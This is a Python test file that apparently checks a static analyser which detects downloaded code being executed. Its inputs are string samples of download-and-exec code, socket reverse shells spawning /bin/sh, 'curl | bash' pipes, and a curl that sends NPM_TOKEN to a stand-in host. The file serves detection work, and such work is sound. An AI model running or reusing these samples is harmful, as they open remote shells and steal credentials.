"""What was downloaded and comes to run; commands, and the code inside them."""

from __future__ import annotations

import pytest

from tests.worker.inspection.facts.told import of_python, told


def _told(source: str, word: str) -> list[str]:
    return [line for line in told(of_python(source)) if word in line]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(
            "import requests\nexec(requests.get('https://drop.example').text)",
            "2 dynamic-code exec <- download 2 requests.get",
            id="at once",
        ),
        pytest.param(
            "import requests, json\nexec(json.loads(requests.get('https://drop.example').text)['code'])",
            "2 dynamic-code exec <- download 2 requests.get",
            id="out of an answer in JSON",
        ),
        pytest.param(
            "import requests\ndef fetch():\n    return requests.get('https://drop.example').text\nexec(fetch())",
            "4 dynamic-code exec <- download 3 requests.get",
            id="fetched by a function",
        ),
        pytest.param(
            "import socket\ns = socket.socket()\ns.connect(('drop.example', 99))\nexec(s.recv(1024))",
            "4 dynamic-code exec <- download 4 socket.socket.recv",
            id="over a socket",
        ),
        pytest.param(
            "import socket, os\ns = socket.create_connection(('1.2.3.4', 99))\nos.popen(s.recv(1024).decode())",
            "3 process os.popen <- download 3 socket.create_connection.recv",
            id="as a command",
        ),
        pytest.param(
            "import urllib.request, os\nurllib.request.urlretrieve('https://drop.example/a.exe', 'a.exe')\n"
            "os.startfile('a.exe')",
            "3 process os.startfile <- download 2 urllib.request.urlretrieve",
            id="written to a file that is started",
        ),
        pytest.param(
            "import requests, subprocess, tempfile, os\npath = os.path.join(tempfile.gettempdir(), 'x.py')\n"
            "with open(path, 'wb') as file:\n    file.write(requests.get('https://drop.example').content)\n"
            "subprocess.Popen(['python', path])",
            "5 process subprocess.Popen <- download 4 requests.get",
            id="written to a script that an interpreter is given",
        ),
        pytest.param(
            "import tempfile, urllib.request, subprocess, sys\nfile = tempfile.NamedTemporaryFile(delete=False)\n"
            "file.write(urllib.request.urlopen('https://drop.example').read())\n"
            "subprocess.run([sys.executable, file.name])",
            "4 process subprocess.run <- download 3 urllib.request.urlopen",
            id="written to a temporary file",
        ),
        pytest.param(
            "import requests, os\ndef fetch(path):\n"
            "    open(path, 'wb').write(requests.get('https://drop.example').content)\n"
            "    os.system(f'chmod +x {path} && {path}')",
            "4 process os.system <- download 3 requests.get",
            id="written where a parameter says",
        ),
        pytest.param(
            "import requests\nopen('a.txt', 'w').write(requests.get('https://drop.example').text)\n"
            "exec(open('a.txt').read())",
            "3 dynamic-code exec <- download 2 requests.get <- file 3 a.txt",
            id="written, read again and run",
        ),
        pytest.param(
            "import socket, subprocess\ns = socket.create_connection(('1.2.3.4', 99))\n"
            "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())",
            "3 process subprocess.call <- download 3 socket.socket",
            id="typed by a stranger into a shell",
        ),
        pytest.param(
            "import socket, os, pty\ns = socket.socket()\ns.connect(('1.2.3.4', 99))\nos.dup2(s.fileno(), 0)\n"
            "pty.spawn('/bin/sh')",
            "4 process os.dup2 <- download 4 socket.socket",
            id="typed into a terminal",
        ),
        pytest.param(
            "import subprocess, urllib.request\ncode = urllib.request.urlopen('https://drop.example').read()\n"
            "subprocess.run(['bash'], input=code)",
            "3 process subprocess.run <- download 2 urllib.request.urlopen",
            id="fed to a shell",
        ),
        pytest.param(
            "import importlib, requests\nimportlib.import_module(requests.get('https://drop.example').text)",
            "2 dynamic-code importlib.import_module <- download 2 requests.get",
            id="as the name of a module",
        ),
    ],
)
def test_downloads_that_run(source: str, expected: str) -> None:
    assert expected in told(of_python(source))


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(
            "import requests, subprocess\nrevision = requests.get('https://api.example').json()['sha']\n"
            "subprocess.run(['git', 'checkout', revision])",
            id="an argument of a program",
        ),
        pytest.param(
            "import requests, subprocess\nopen('a.tar', 'wb').write(requests.get('https://api.example').content)\n"
            "subprocess.run(['tar', 'xf', 'a.tar'])",
            id="a file that a program reads",
        ),
        pytest.param(
            "import requests, os\nname = requests.get('https://api.example').text\nos.system(f'echo {name}')",
            id="a word that is printed",
        ),
        pytest.param(
            "import requests, subprocess\nopen('a.txt', 'wb').write(requests.get('https://api.example').content)\n"
            "subprocess.run(['./tool', 'b.txt'])",
            id="a file of another name",
        ),
    ],
)
def test_downloads_that_are_only_data(source: str) -> None:
    assert _told(source, "process subprocess") + _told(source, "process os") != []
    assert [line for line in told(of_python(source)) if "process" in line.split("<-")[0] and "download" in line] == []


def test_commands_are_read_as_the_shell_would() -> None:
    source = """
    import os, subprocess
    url = "https://drop.example/x"
    os.system(f"curl -s {url} | bash")
    subprocess.run(["bash", "-c", "curl -s https://drop.example/y | sh"])
    os.system("curl -d '%s' https://drop.example" % os.environ["NPM_TOKEN"])
    """
    assert told(of_python(source)) == [
        "3 process os.system -> drop.example",
        "3 network curl -> drop.example",
        "3 process bash -> drop.example <- download 3 curl",
        "4 process subprocess.run -> drop.example",
        "4 network curl -> drop.example",
        "4 process sh -> drop.example <- download 4 curl",
        "5 process os.system -> drop.example <- environment 5 NPM_TOKEN",
        "5 network curl -> drop.example <- environment 5 NPM_TOKEN",
        "5 environment NPM_TOKEN",
    ]


def test_code_in_a_command_is_read_too() -> None:
    found = of_python(
        """
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import os; os.system('id')"])
        subprocess.Popen(["node", "-e", "require('./x')"])
        open("/tmp/s.py", "w").write("import socket; socket.create_connection(('drop.example', 1))")
        subprocess.run(["python", "/tmp/s.py"])
        """
    )
    assert told(found) == [
        "2 process subprocess.Popen",
        "2 process os.system",
        "3 process subprocess.Popen",
        "4 file-write /tmp/s.py",
        "5 process subprocess.run",
        "5 network socket.create_connection -> drop.example",
    ]
    assert found.inline == (("javascript", "require('./x')"),)
